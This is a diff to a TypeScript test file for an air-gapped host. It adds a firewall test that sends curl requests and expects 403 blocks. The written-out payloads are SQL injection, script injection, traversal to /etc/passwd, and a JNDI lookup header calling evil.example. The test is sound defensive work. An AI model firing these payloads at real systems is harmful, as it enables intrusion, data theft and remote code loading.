@@ -61,6 +61,32 @@ describe('an air-gapped host', () => {
     expect((await there(['health'])).status).toBe(0);
   });
 
+  test('blocks attacks, by Debian’s rules', async () => {
+    const { from } = parsed<{ from: string }>(await there(['waf', 'rules', '--json']));
+    expect(from).toBe('Debian');
+    const { images } = parsed<{ images: { name: string; ref: string }[] }>(await there(['images', 'build', '--dry-run', '--json']));
+    const withCurl = images.find(({ name }) => name === 'patroni')?.ref as string;
+    const asked = async (id: string, ...args: string[]) => {
+      const curl = ['-sk', '-o', '/dev/null', '-w', '%{http_code}', '-A', 'Mozilla/5.0', '-H', `x-request-id: ${id}`, ...args];
+      const from = ['run', '--rm', '--network', `${space.project}_dmz`, '--entrypoint', 'curl', withCurl];
+      return (await host.docker([...from, ...curl, '--connect-to', '::edge:8443'])).stdout;
+    };
+    const page = 'https://localhost/';
+    expect(await asked('visitor', `${page}?q=the+third+man`)).toBe('200');
+    const attacks = {
+      injection: [`${page}?id=1%20UNION%20SELECT%20password%20FROM%20users`],
+      script: [`${page}?q=%3Cscript%3Ealert(1)%3C/script%3E`],
+      traversal: [`${page}?file=../../../../etc/passwd`],
+      lookup: [page, '-H', 'x-api-version: ${jndi:ldap://evil.example/a}'],
+    };
+    for (const [id, args] of Object.entries(attacks)) expect([id, await asked(id, ...args)]).toEqual([id, '403']);
+    const { entries } = parsed<{ entries: { requestId: string; blocked: boolean }[] }>(
+      await there(['waf', 'log', '--since', '10m', '--json']),
+    );
+    const blocked = entries.filter((entry) => entry.blocked).map(({ requestId }) => requestId);
+    expect(blocked.sort()).toEqual(Object.keys(attacks).sort());
+  });
+
   test('is drawn as it runs, with roles and lag, in a second and a half', async () => {
     const bound = await atMost(1.5);
     const started = performance.now();
@@ -85,7 +111,9 @@ describe('an air-gapped host', () => {
       id: expect.stringMatching(/^sha256:/),
       packages: { 'postgresql-17': { version: expect.stringMatching(/^17\./) } },
     });
-    expect((await there(['images', 'lock', '--check'])).status).toBe(0);
+    // What is only compared is asked of no mirror: without a network that takes a minute.
+    const same = await there(['images', 'lock', '--check']);
+    expect([same.status, same.stderr]).toEqual([0, expect.not.stringMatching(/mirror|suites/)]);
     // Under all of its names: what builds are held to has another than what was there before.
     const { id = '' } = lock.images.redis ?? {};
     const { stdout } = await host.docker(['images', '--no-trunc', '--format', '{{.ID}} {{.Repository}}:{{.Tag}}']);
